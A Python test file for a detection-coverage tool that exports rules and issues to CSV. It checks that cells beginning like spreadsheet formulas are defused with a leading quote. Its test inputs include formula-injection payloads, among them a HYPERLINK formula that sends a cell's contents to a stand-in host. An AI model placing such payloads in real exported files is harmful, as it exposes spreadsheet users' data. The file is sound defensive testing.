"""Rules and issues as frames, and frames as CSV that a spreadsheet can open without running anything."""

import csv
import io

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from coverage.catalog import load_catalog
from coverage.compare import compare
from coverage.model import Issue, IssueKind, RuleSet, Severity
from coverage.score import score
from coverage.tables import csv_bytes, difference_table, issue_table, rule_table
from tests.rules import THREATOPS, coverage_of, rule

RULE = rule(
    "T1059.001",
    "T1003",
    tactics=("Execution", "Credential Access"),
    rule_id="r-1",
    name="A name",
    severity=Severity.MEDIUM,
    source="Sigma",
    origin="windows/a.yml",
    logsource="windows/process_creation",
    tenant="acme",
    updated_at="2026-01-15",
    tags=("cve.2021-44228", "lab"),
    feed="Customer A",
)
TEXTS = [
    "rule_id",
    "name",
    "severity",
    "tactics",
    "techniques",
    "logsource",
    "tags",
    "tenant",
    "source",
    "feed",
    "origin",
    "updated_at",
]


def read_csv(frame):
    """The rows that another program reads, the header first."""
    return list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8-sig"), newline="")))


def written(*names):
    """The names of rules as they come back from CSV."""
    header, *rows = read_csv(rule_table([rule("T1003", name=name) for name in names]))
    return [row[header.index("name")] for row in rows]


# Rules.


def test_a_rule_is_a_row():
    (row,) = rule_table([RULE]).to_dict("records")
    assert row == {
        "rule_id": "r-1",
        "name": "A name",
        "severity": "medium",
        "enabled": True,
        "count": 1,
        "tactics": "Execution, Credential Access",
        "techniques": "T1059.001, T1003",
        "logsource": "windows/process_creation",
        "tags": "cve.2021-44228, lab",
        "tenant": "acme",
        "source": "Sigma",
        "feed": "Customer A",
        "origin": "windows/a.yml",
        "updated_at": "2026-01-15",
    }


def test_what_a_rule_does_not_state_is_an_empty_text():
    (row,) = rule_table([rule(tactics=None)]).to_dict("records")
    assert [name for name, value in row.items() if value == ""] == [
        "tactics",
        "techniques",
        "logsource",
        "tags",
        "tenant",
        "feed",
        "updated_at",
    ]


@pytest.mark.parametrize("rules", [[], [RULE], [RULE, rule(enabled=False)]], ids=len)
def test_columns_have_their_types_however_many_rules_there_are(rules):
    frame = rule_table(rules, coverage_of(*rules, catalog=THREATOPS))
    types = {name: str(dtype) for name, dtype in frame.dtypes.items()}
    assert types == {**dict.fromkeys(TEXTS, "str"), "enabled": "bool", "count": "int64", "cells": "int64"}
    assert len(frame) == len(rules)
    assert "cells" not in rule_table(rules).columns


def test_cells_is_the_number_of_cells_in_which_a_rule_counts_or_would():
    off = rule("T1566", tactics=("Initial Access",), enabled=False)
    nowhere = rule("T9999", tactics=("Initial Access",))
    frame = rule_table([RULE, off, nowhere], coverage_of(RULE, off, nowhere, catalog=THREATOPS))
    assert frame["cells"].tolist() == [3, 1, 0]


def test_a_rule_that_the_coverage_leaves_out_counts_in_no_cell():
    coverage = coverage_of(RULE, severities=frozenset({Severity.LOW}))
    assert rule_table([RULE], coverage)["cells"].tolist() == [0]


@pytest.mark.parametrize("field", ["rule_id", "name", "source", "origin", "logsource", "tenant", "updated_at"])
def test_long_texts_are_cut(field):
    frame = rule_table([rule("T1003", **{field: length * "x"}) for length in (500, 501, 10_000)])
    assert frame[field].str.len().tolist() == [500, 500, 500]


def test_long_lists_are_cut_too():
    row = rule_table([rule(*["T1003"] * 1000, tactics=("Impact",) * 1000)]).iloc[0]
    assert (len(row["techniques"]), len(row["tactics"])) == (500, 500)


# Issues.


def test_an_issue_is_a_row():
    frame = issue_table([Issue(IssueKind.UNREADABLE, "", "a.yml", "The file is empty.", "Customer A")])
    assert frame.to_dict("records") == [
        {"kind": "unreadable", "rule": "", "where": "a.yml", "message": "The file is empty.", "feed": "Customer A"}
    ]


@pytest.mark.parametrize("number", [0, 1])
def test_the_columns_of_issues_are_texts_however_many_there_are(number):
    frame = issue_table([Issue(IssueKind.NO_ID, "r", "w" * 10_000, "m")] * number)
    assert {name: str(dtype) for name, dtype in frame.dtypes.items()} == dict.fromkeys(
        ["kind", "rule", "where", "message", "feed"], "str"
    )
    assert frame["where"].str.len().tolist() == [500] * number


# CSV.


def test_csv_has_a_mark_a_header_and_a_row_a_rule():
    data = csv_bytes(rule_table([RULE]))
    assert data.startswith(b"\xef\xbb\xbfrule_id,name,")
    header, row = read_csv(rule_table([RULE]))
    assert dict(zip(header, row, strict=True))["techniques"] == "T1059.001, T1003"
    assert len(read_csv(rule_table([]))) == 1


FORMULAS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]


@pytest.mark.parametrize("sign", FORMULAS)
def test_a_text_that_begins_like_a_formula_gets_a_quote_before_it(sign):
    text = f'{sign}HYPERLINK("http://example.org?"&A1, "Click")'
    assert written(text) == [f"'{text}"]


def test_formulas_are_defused_in_every_column_of_texts():
    hostile = dict.fromkeys(
        ["rule_id", "name", "source", "origin", "logsource", "tenant", "updated_at", "feed"], "=1+1"
    )
    header, row = read_csv(rule_table([rule("=1+1", tactics=("=1+1",), tags=("=1+1",), **hostile)]))
    assert {name: value for name, value in zip(header, row, strict=True) if value == "'=1+1"}.keys() == {*TEXTS} - {
        "severity"
    }
    issue = Issue(IssueKind.UNREADABLE, "=1", "@1", "-1", "+1")
    assert read_csv(issue_table([issue]))[1] == ["unreadable", "'=1", "'@1", "'-1", "'+1"]


@pytest.mark.parametrize(
    "text",
    [
        'a "quoted" name',
        '"',
        "one\ntwo",
        "one\r\ntwo",
        "one\r=HYPERLINK(1)",  # unquoted, it would be a row of its own
        "a,b;c",
        "'",
        "",
        " padded ",
        "名前 \u202e rule",
        "a=b",
    ],
)
def test_every_other_text_comes_back_as_it_was(text):
    assert written("before", text, "after") == ["before", text, "after"]


def test_halves_of_surrogate_pairs_are_replaced():
    assert written("broken \ud800 name") == ["broken ? name"]
    assert read_csv(issue_table([Issue(IssueKind.NO_ID, "\udc00", "w", "m")]))[1][1] == "?"


def test_a_filtered_frame_is_written_and_left_as_it_was():
    frame = rule_table([rule(name="=1"), rule(name="=2")])
    kept = frame[frame["name"] == "=2"]
    assert "'=2" in csv_bytes(kept).decode()
    assert kept["name"].tolist() == ["=2"]
    assert isinstance(kept, pd.DataFrame)


ANY_TEXT = st.text(st.characters(exclude_categories=[]), max_size=20) | st.builds(
    lambda start, rest: start + rest, st.sampled_from(FORMULAS), st.text(max_size=5)
)


@given(st.lists(st.tuples(ANY_TEXT, ANY_TEXT, ANY_TEXT), max_size=4))
def test_no_cell_begins_like_a_formula_and_nothing_is_lost(texts):
    rules = [rule(techniques, rule_id=rule_id, name=name) for rule_id, name, techniques in texts]
    header, *rows = read_csv(rule_table(rules))
    assert len(rows) == len(rules)
    for row, (_, name, _) in zip(rows, texts, strict=True):
        assert len(row) == len(header)
        assert not any(cell.startswith(tuple(FORMULAS)) for cell in row)
        shown = row[header.index("name")]
        kept = name.encode("utf-8", "replace").decode()
        assert shown in (kept, f"'{kept}")


def test_differences_have_their_columns_and_missing_counts():
    before, after = RuleSet(()), RuleSet((rule("T1685"),))
    sides = [
        score(rules, load_catalog("enterprise", version)) for rules, version in ((before, "18.1"), (after, "19.1"))
    ]
    comparison = compare(*sides, rules_before=before, rules_after=after)
    frame = difference_table(comparison.cells)
    assert len(frame) == len(comparison.cells)
    assert {str(frame[name].dtype) for name in ("rules_before", "rules_after")} == {"Int64"}
    assert {str(frame[name].dtype) for name in frame.columns if not name.startswith("rules_")} == {"str"}
    row = frame[(frame["technique_id"] == "T1685") & (frame["tactic"] == "Defense Impairment")].iloc[0]
    assert (row["level_before"], row["level_after"], row["rules_after"]) == ("", "partial", 1)
    assert pd.isna(row["rules_before"])
    assert row["causes"]
    assert row["explanation"].endswith(".")


def test_no_difference_is_an_empty_frame_with_its_columns():
    frame = difference_table(())
    assert frame.empty
    assert list(frame.columns)[:2] == ["tactic", "technique_id"]
    assert csv_bytes(frame).decode("utf-8-sig").startswith("tactic,technique_id")
